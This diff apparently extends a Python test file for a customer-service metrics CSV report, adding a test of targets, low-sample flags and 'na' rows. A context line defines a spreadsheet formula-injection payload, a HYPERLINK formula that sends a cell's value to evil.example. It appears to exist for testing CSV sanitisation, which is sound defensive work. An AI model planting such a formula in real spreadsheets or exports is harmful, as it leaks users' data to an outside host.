@@ -17,6 +17,7 @@ from csinsights.domain.figures import PREVENTABLE_RATE as PREVENTABLE
 from csinsights.domain.figures import REASONS
 from csinsights.domain.metrics import METRICS, Counts
 from csinsights.reports import FORMULA_PREFIXES, safe_cell, to_csv
+from tests.report_samples import good_line
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
 
@@ -166,3 +167,29 @@ def test_csv_states_each_metric_s_label_unit_and_target_in_words() -> None:
     assert (late["unit"], late["target_text"]) == ("contacts", "0 contacts")
     hours = by[("CA", "average_contact_response_time_hours")]
     assert (hours["unit"], hours["target_text"]) == ("hours", "")
+
+
+def test_csv_states_the_good_line_as_the_target_and_no_sample_warning_on_na() -> None:
+    rows = list(csv.DictReader(io.StringIO(to_csv(good_line().document))))
+    by = {(r["store"], r["metric"]): r for r in rows}
+    reply = by[("US", "average_contact_response_time_hours")]
+    assert (reply["value"], reply["status"]) == ("67.0", "poor")
+    assert (reply["target"], reply["target_condition"]) == ("33.29", "less_than_or_equal")
+    assert reply["target_text"] == (
+        "at or below 33.29 h: the store average, better than the top performers' 83.78 h "
+        "this period"
+    )
+    assert (reply["store_average"], reply["top_performers"], reply["low_sample"]) == (
+        "33.29",
+        "83.78",
+        "yes",
+    )
+    na = by[("CA", CSDR)]
+    assert (na["value"], na["reason"], na["status"], na["low_sample"]) == (
+        "",
+        "no_responses",
+        "na",
+        "",
+    )
+    withheld = by[("CA", "average_contact_response_time_hours")]
+    assert (withheld["status"], withheld["target"], withheld["target_text"]) == ("na", "", "")
